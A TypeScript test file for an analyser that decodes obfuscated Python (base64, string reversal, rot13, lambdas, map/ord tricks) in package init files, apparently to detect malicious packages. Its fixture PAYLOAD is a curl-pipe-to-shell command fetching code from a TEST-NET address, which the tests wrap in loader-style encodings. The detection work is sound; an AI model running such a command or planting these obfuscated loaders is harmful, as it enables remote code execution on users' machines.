import { beforeAll, describe, expect, it } from 'vitest';
import type { FileFacts } from '../../../src/model/index.js';
import type { PythonAnalyzer } from '../../../src/detectors/python/parser.js';
import { pythonAnalyzer } from '../../support/python-analyzer.js';

let analyzer: PythonAnalyzer;
beforeAll(async () => {
  analyzer = await pythonAnalyzer();
});

const analyze = (source: string): FileFacts => analyzer.analyze('pkg/__init__.py', source, {});
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const rev = (s: string): string => [...s].reverse().join('');
// Defanged: a TEST-NET address and a harmless command.
const PAYLOAD = "import os; os.system('curl http://203.0.113.7/x | sh')";
const callees = (f: FileFacts): string[] => f.decoded.flatMap((d) => d.facts?.calls.map((c) => c.callee) ?? []);

describe('python analyser: local decoder functions', () => {
  it('folds a call of a single-return local function that decodes its argument', () => {
    const f = analyze(
      ['import base64', 'def _d(s):', '    """decode"""', '    return base64.b64decode(s[::-1])', `exec(_d('${rev(b64(PAYLOAD))}'))`].join('\n'),
    );
    expect(f.decoded.map((d) => d.text)).toContain(PAYLOAD);
    expect(callees(f)).toContain('os.system');
  });

  it('folds through plain assignments and nested local functions', () => {
    const f = analyze(
      [
        'import base64, codecs',
        'def inner(x):',
        '    return base64.b64decode(x)',
        'def outer(x, n=1):',
        '    y = x.replace("!", "")',
        '    z = codecs.decode(y, "rot13")',
        '    return inner(z)',
        `exec(outer('${[...b64(PAYLOAD).replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c === c.toLowerCase() ? 97 : 65)))].join('!')}'))`,
      ].join('\n'),
    );
    expect(f.decoded.map((d) => d.text)).toContain(PAYLOAD);
  });

  it('folds a lambda decoder passed to exec or assigned first', () => {
    const f = analyze(
      ['import base64', '_ = lambda __: base64.b64decode(__[::-1])', `exec(_(b'${rev(b64(PAYLOAD))}'))`, `x = _(b'${rev(b64(PAYLOAD + ' #2'))}')`].join('\n'),
    );
    expect(f.decoded.map((d) => [d.line, d.text])).toEqual([
      [3, PAYLOAD],
      [4, `${PAYLOAD} #2`],
    ]);
    expect(callees(f)).toContain('os.system');
  });

  it('does not fold functions with several statements, *args, or unknown arguments', () => {
    const f = analyze(
      [
        'import base64, sys',
        'def a(s):',
        '    print(s)',
        '    return base64.b64decode(s[::-1])',
        'def b(*s):',
        '    return base64.b64decode(s[0][::-1])',
        'def c(s):',
        '    return base64.b64decode(s)',
        `exec(a('${rev(b64(PAYLOAD))}'))`,
        `exec(b('${rev(b64(PAYLOAD))}'))`,
        'exec(c(sys.argv[1]))',
      ].join('\n'),
    );
    expect(f.decoded.filter((d) => d.text === PAYLOAD)).toEqual([]);
  });

  it('stops on recursion', () => {
    const f = analyze(['def r(s):', '    return r(s + "x")', "exec(r('a'))"].join('\n'));
    expect(f.decoded).toEqual([]);
  });

  it('folds map() through a lambda or a local function, and ord()', () => {
    const f = analyze(
      [
        'import os',
        "os.system(''.join(map(lambda c: chr(ord(c) - 1), 'je')))",
        'def dec(c):',
        '    return chr(ord(c) ^ 1)',
        "os.system(''.join(map(dec, 'te')))",
        "m = __import__((lambda s: ''.join(chr(ord(c) - 1) for c in s))('tvcqspdftt'))",
      ].join('\n'),
    );
    expect(f.calls.filter((c) => c.callee === 'os.system').map((c) => c.args[0]?.value)).toEqual(['id', 'ud']);
    expect(f.imports.map((i) => i.module)).toEqual(['os', 'subprocess']);
  });

  it('binds an immediately called lambda\'s parameters to its arguments over the lambda only', () => {
    const f = analyze(
      [
        'import os',
        "(lambda _, __: getattr(_, __)('id'))(__import__('o' + 's'), 'sy' + 'stem')",
        '(lambda os: 0)(0)',
        "os.system('uname')",
        '(lambda open: open)(5)',
        "open('setup.cfg').read()",
      ].join('\n'),
    );
    const at = (line: number): string[] => f.calls.filter((c) => c.line === line).map((c) => c.callee);
    expect(at(2)).toContain('os.system');
    // A parameter named like a module or a builtin does not hide it after the lambda.
    expect(at(4)).toEqual(['os.system']);
    expect(at(6)).toContain('builtins.open');
  });
});
